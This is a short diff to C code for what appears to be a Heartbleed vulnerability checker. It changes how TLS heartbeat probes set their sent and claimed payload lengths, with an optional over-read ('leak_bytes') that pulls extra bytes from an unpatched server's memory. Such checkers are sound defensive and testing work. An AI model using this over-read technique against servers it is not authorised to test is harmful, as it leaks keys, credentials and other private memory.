@@ -14,7 +14,7 @@ uint8_t kit_payload_byte(enum kit_record which, size_t i)
 
 static hc_result build(struct probe_kit *kit, enum kit_record which, unsigned v)
 {
-    size_t payload_len = which == KIT_PROBE ? PROBE_PAYLOAD : PROBE_FOLLOWUP_PAYLOAD;
+    size_t payload_len = which == KIT_PROBE ? kit->probe_sent : PROBE_FOLLOWUP_PAYLOAD;
     uint8_t *payload = malloc(payload_len);
     HC_ENSURE(payload, HC_ERR_NOMEM);
     for (size_t i = 0; i < payload_len; i++)
@@ -24,7 +24,7 @@ static hc_result build(struct probe_kit *kit, enum kit_record which, unsigned v)
         .type = TLS_HEARTBEAT_REQUEST,
         .payload = payload,
         .payload_len = payload_len,
-        /* The probe claims what it sends (plus any opted-in over-read) and has no padding:
+        /* The probe has no padding and claims what it sends (plus any opted-in over-read):
          * only a server without the 1.0.1g length check answers it. The follow-up is
          * well-formed (RFC 6520 section 4: at least 16 bytes of padding). */
         .claimed_length = which == KIT_PROBE ? kit->probe_claim : (uint16_t)payload_len,
@@ -44,7 +44,10 @@ hc_result probe_kit_new(uint32_t leak_bytes, struct probe_kit **out)
     struct probe_kit *kit = calloc(1, sizeof *kit);
     HC_ENSURE(kit, HC_ERR_NOMEM);
     kit->leak_bytes = leak_bytes;
-    kit->probe_claim = (uint16_t)(PROBE_PAYLOAD + leak_bytes);
+    kit->probe_sent = leak_bytes <= PROBE_PAYLOAD - PROBE_MIN_SENT
+                          ? (uint16_t)(PROBE_PAYLOAD - leak_bytes)
+                          : PROBE_MIN_SENT;
+    kit->probe_claim = (uint16_t)(kit->probe_sent + leak_bytes);
     for (unsigned v = 0; v < KIT_VERSIONS; v++) {
         hc_result res = build(kit, KIT_PROBE, v);
         if (hc_ok(res))
